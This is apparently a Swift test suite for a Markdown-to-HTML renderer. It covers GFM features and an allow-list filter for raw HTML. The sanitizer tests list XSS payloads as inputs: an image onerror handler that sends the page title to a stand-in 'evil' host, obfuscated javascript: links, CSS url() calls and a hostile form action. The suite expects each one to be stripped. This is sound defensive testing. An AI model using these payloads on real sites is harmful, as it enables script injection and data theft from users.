import RapportMarkdown
import Testing

@Suite struct MarkdownTests {
    @Test func rendersTables() {
        let html = Markdown.html("| a | b |\n|---|---|\n| 1 | 2 |\n")
        #expect(html.contains("<table>"))
        #expect(html.contains("<th>a</th>"))
        #expect(html.contains("<td>2</td>"))
    }

    @Test func rendersStrikethrough() {
        #expect(Markdown.html("~~gone~~").contains("<del>gone</del>"))
    }

    @Test func autolinksBareURLs() {
        #expect(Markdown.html("see www.example.com now").contains("<a href=\"http://www.example.com\">"))
        #expect(Markdown.html("see https://example.com/x now").contains("<a href=\"https://example.com/x\">"))
    }

    @Test func rendersTaskLists() {
        let html = Markdown.html("- [x] done\n- [ ] open\n")
        // cmark-gfm's tasklist extension output, as in its own spec tests.
        #expect(html.contains("<li><input type=\"checkbox\" checked=\"\" disabled=\"\" /> done</li>"))
        #expect(html.contains("<li><input type=\"checkbox\" disabled=\"\" /> open</li>"))
    }

    @Test func dropsRawHTMLByDefault() {
        let html = Markdown.html("<div class=\"x\">hi</div>\n\ntext <b>bold</b>\n")
        #expect(!html.contains("<div"))
        #expect(!html.contains("<b>"))
        #expect(html.contains("raw HTML omitted"))
    }

    @Test func dangerousTagsAreShownAsTextWhenRawHTMLIsAllowed() {
        let html = Markdown.html("<b>ok</b> <script>alert(1)</script> <iframe src=x></iframe>\n", allowRawHTML: true)
        #expect(html.contains("<b>ok</b>"))
        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        #expect(html.contains("&lt;iframe&gt;&lt;/iframe&gt;"))
        #expect(!html.contains("<script") && !html.contains("<iframe"))
    }

    /// Issue 14, point 5: event handlers, script URLs and styles survived
    /// GFM's tagfilter; opting into raw HTML now means an allow-list.
    @Test func rawHTMLKeepsOnlyListedTagsAttributesAndSafeURLs() {
        let cases: [(source: String, expected: String)] = [
            // The exfiltration case: the handler goes, the image stays.
            (
                "<img src=\"x.png\" onerror=\"new Image().src='http://evil/?'+document.title\">",
                "<img src=\"x.png\">"
            ),
            ("<a href=\"javascript:alert(1)\">go</a>", "<a>go</a>"),
            // The scheme hidden behind references, case, tabs and a leading space.
            ("<a href=\"&#106;ava&#x09;script&colon;alert(1)\">go</a>", "<a>go</a>"),
            ("<a href=\" JaVaScRiPt:alert(1)\">go</a>", "<a>go</a>"),
            ("<a href=\"&#0000106avascript:alert(1)\">go</a>", "<a>go</a>"),
            ("<a href=\"data:text/html,<b>x</b>\">go</a>", "<a>go</a>"),
            (
                "<a href=\"https://crm.example.com/a?b=1&amp;c=2\" title='say \"hi\"'>go</a>",
                "<a href=\"https://crm.example.com/a?b=1&amp;c=2\" title=\"say &quot;hi&quot;\">go</a>"
            ),
            ("<a href=\"../accounts/a1.html#notes\">go</a>", "<a href=\"../accounts/a1.html#notes\">go</a>"),
            ("<a href=\"mailto:rep@example.com\">mail</a>", "<a href=\"mailto:rep@example.com\">mail</a>"),
            ("<span style=\"background:url(http://evil/)\" class=\"note\">x</span>", "<span class=\"note\">x</span>"),
            ("<div id=\"main\" onclick=\"x()\">x</div>", "<div>x</div>"),
            ("<svg onload=\"x()\"><circle/></svg>", "&lt;svg&gt;&lt;circle&gt;&lt;/svg&gt;"),
            ("<form action=\"http://evil/\"><input name=q></form>", "&lt;form&gt;&lt;input&gt;&lt;/form&gt;"),
            (
                "<object data=\"x\"></object><embed src=\"x\"><link rel=stylesheet href=x>",
                "&lt;object&gt;&lt;/object&gt;&lt;embed&gt;&lt;link&gt;"
            ),
            ("<p>a<!-- hidden --> b</p>", "<p>a b</p>"),
            ("<IMG SRC=\"x.png\" ALT=\"chart\" />", "<img src=\"x.png\" alt=\"chart\" />"),
            (
                "<details open><summary>More</summary>text</details>",
                "<details open><summary>More</summary>text</details>"
            ),
        ]
        for (source, expected) in cases {
            #expect(RawHTMLFilter.filter(source) == expected, "\(source)")
        }
        // Through cmark: an HTML block and inline tags alike.
        let block = Markdown.html("<div onmouseover=\"steal()\">\n\n**hi**\n\n</div>\n", allowRawHTML: true)
        #expect(block == "<div>\n<p><strong>hi</strong></p>\n</div>\n")
        let inline = Markdown.html("Call <a href=\"javascript:x()\" title=\"t\">now</a>.\n", allowRawHTML: true)
        #expect(inline == "<p>Call <a title=\"t\">now</a>.</p>\n")
        #expect(!Markdown.html("<img src=x onerror=alert(1)>\n", allowRawHTML: true).contains("onerror"))
    }

    @Test func escapesTextAndUnsafeLinks() {
        #expect(Markdown.html("a < b & c").contains("a &lt; b &amp; c"))
        #expect(!Markdown.html("[x](javascript:alert(1))").contains("javascript:"))
    }

    @Test func rendersConcurrently() async {
        let source = "# Title\n\n| a |\n|---|\n| 1 |\n\n- [ ] task\n"
        let expected = Markdown.html(source)
        let results = await withTaskGroup(of: String.self) { group in
            for _ in 0..<64 { group.addTask { Markdown.html(source) } }
            return await group.reduce(into: []) { $0.append($1) }
        }
        #expect(results.count == 64)
        #expect(results.allSatisfy { $0 == expected })
    }
}
